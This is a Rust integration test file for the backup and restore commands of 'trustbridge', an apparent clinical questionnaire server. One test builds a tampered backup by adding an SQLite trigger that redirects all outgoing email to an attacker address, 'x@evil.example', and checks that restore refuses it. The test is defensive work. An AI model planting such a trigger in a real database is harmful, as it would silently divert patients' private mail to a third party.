//! Backups: `trustbridge backup FILE` copies a running SQLite database consistently while
//! clients keep writing, `trustbridge restore FILE` puts it into an empty database, and the
//! server started on the restored database serves every submission, account and note. A
//! PostgreSQL database is pointed to pg_dump.

use std::path::Path;
use std::process::{Output, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use crate::common::{
    self, check_in, create_admin, db_text, log_in_as, start_questionnaire, texts, Backend,
};
use reqwest::StatusCode;
use tokio::process::Command;

const ADMIN: &str = "ana@harbour.example";
const PASSWORD: &str = "violet lantern gravel orbit";
const NOTE: &str = "CANARY-note-kept-in-the-backup-7e2";

async fn cli(database_url: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_trustbridge"))
        .args(args)
        .env("DATABASE_URL", database_url)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .output()
        .await
        .expect("run the command")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn sqlite_url(path: &Path) -> String {
    format!("sqlite://{}", path.display())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_backup_taken_while_clients_write_restores_into_a_working_practice() {
    // Its writer starts questionnaires as fast as it can, from one address.
    let mut app = common::spawn_app_with(Backend::Sqlite, &[("START_BURST", "0".into())]).await;
    assert!(create_admin(&app, ADMIN, "Ana Lima", PASSWORD)
        .await
        .status
        .success());
    let token = start_questionnaire(&app).await;
    common::answer_every_section(&app, &token, |_| "4", "").await;
    check_in(&app, &token, "no").await;
    let reference = db_text(
        &app,
        "select reference from submissions order by id desc limit 1",
    )
    .await;
    let cookie = log_in_as(&app, ADMIN, PASSWORD).await.expect("login");
    let noted = app
        .raw
        .post(app.url(&format!("/staff/submissions/{reference}/notes")))
        .header("cookie", &cookie)
        .form(&[("body", NOTE)])
        .send()
        .await
        .expect("note");
    assert_eq!(noted.status(), StatusCode::SEE_OTHER);

    // Clients keep starting questionnaires while the backup runs.
    let writing = Arc::new(AtomicBool::new(true));
    let writer = {
        let writing = writing.clone();
        let (base, client) = (app.base.clone(), app.raw.clone());
        tokio::spawn(async move {
            let mut started = 0;
            while writing.load(Ordering::Relaxed) {
                let r = client
                    .post(format!("{base}/start"))
                    .form(&[("agree", "yes")])
                    .send()
                    .await
                    .expect("start");
                assert_eq!(r.status(), StatusCode::SEE_OTHER);
                started += 1;
            }
            started
        })
    };
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let file = app.dir().join("backup.db");
    let made = cli(&app.database_url, &["backup", file.to_str().expect("path")]).await;
    writing.store(false, Ordering::Relaxed);
    let started = writer.await.expect("writer");
    assert!(made.status.success(), "{}", text(&made.stderr));
    assert!(text(&made.stdout).contains("Backed up to"));
    assert!(started > 0, "the backup ran while clients wrote");
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&file)
            .expect("backup")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "only its owner reads the backup");
    }

    // A backup never overwrites a file, and a restore never overwrites a practice's data.
    let again = cli(&app.database_url, &["backup", file.to_str().expect("path")]).await;
    assert!(!again.status.success());
    assert!(
        text(&again.stderr).contains("already exists"),
        "{}",
        text(&again.stderr)
    );
    let over = cli(
        &app.database_url,
        &["restore", file.to_str().expect("path")],
    )
    .await;
    assert!(!over.status.success());
    assert!(
        text(&over.stderr).contains("already holds"),
        "{}",
        text(&over.stderr)
    );
    let junk = app.dir().join("junk.db");
    std::fs::write(&junk, b"not a database").expect("write");
    let target = sqlite_url(&app.dir().join("restored").join("practice.db"));
    let refused = cli(&target, &["restore", junk.to_str().expect("path")]).await;
    assert!(
        text(&refused.stderr).contains("is not a TrustBridge backup"),
        "{}",
        text(&refused.stderr)
    );

    // A backup someone changed so that the app would run their code (here: a trigger that
    // sends every email to them) is refused, and nothing is written (security N10).
    let altered = app.dir().join("altered.db");
    std::fs::copy(&file, &altered).expect("copy");
    {
        use sqlx::Connection as _;
        let mut copy = sqlx::SqliteConnection::connect(&sqlite_url(&altered))
            .await
            .expect("open the copy");
        sqlx::query(
            "create trigger redirect after insert on outbox begin \
             update outbox set recipient = 'x@evil.example' where id = new.id; end",
        )
        .execute(&mut copy)
        .await
        .expect("add a trigger");
        copy.close().await.expect("close");
    }
    let refused = cli(&target, &["restore", altered.to_str().expect("path")]).await;
    assert!(!refused.status.success());
    assert!(
        text(&refused.stderr).contains("may have been altered"),
        "{}",
        text(&refused.stderr)
    );
    assert!(!app.dir().join("restored").join("practice.db").exists());

    // A backup is sealed with the practice's data key: without it, nothing is restored.
    let keyless = cli(&target, &["restore", file.to_str().expect("path")]).await;
    assert!(!keyless.status.success());
    assert!(
        text(&keyless.stderr).contains("the data key is missing"),
        "{}",
        text(&keyless.stderr)
    );
    assert!(!app.dir().join("restored").join("practice.db").exists());

    // Into a new database, with the key: the server started on it serves the practice as it was.
    let key_file = format!("{}.key", app.dir().join("test.db").display());
    let restored = Command::new(env!("CARGO_BIN_EXE_trustbridge"))
        .args(["restore", file.to_str().expect("path")])
        .env("DATABASE_URL", &target)
        .env("DATA_KEY_FILE", &key_file)
        .output()
        .await
        .expect("run restore");
    assert!(restored.status.success(), "{}", text(&restored.stderr));
    app.restart(&[
        ("DATABASE_URL", target.clone()),
        ("DATA_KEY_FILE", key_file),
    ])
    .await;
    let cookie = log_in_as(&app, ADMIN, PASSWORD)
        .await
        .expect("the account came back");
    let page = common::staff_html(&app, &cookie, &format!("/staff/submissions/{reference}")).await;
    assert!(page.contains(NOTE), "the clinician's note came back");
    assert_eq!(
        texts(&page, "table.answers tbody tr").len(),
        48,
        "every answer came back"
    );
    let list = common::staff_html(&app, &cookie, &format!("/staff?q={reference}")).await;
    assert_eq!(
        texts(&list, "table.submissions tbody tr").len(),
        1,
        "found in the list"
    );
    // The client's private link still opens their summary.
    let summary = app
        .raw
        .get(app.url(&format!("/q/{token}/result")))
        .send()
        .await
        .expect("get");
    assert_eq!(summary.status(), StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_postgresql_database_is_pointed_to_pg_dump() {
    let app = common::spawn_app(Backend::Postgres).await;
    let out = cli(&app.database_url, &["backup", "/tmp/never-written.db"]).await;
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("pg_dump"),
        "{}",
        text(&out.stderr)
    );
    assert!(!Path::new("/tmp/never-written.db").exists());
}
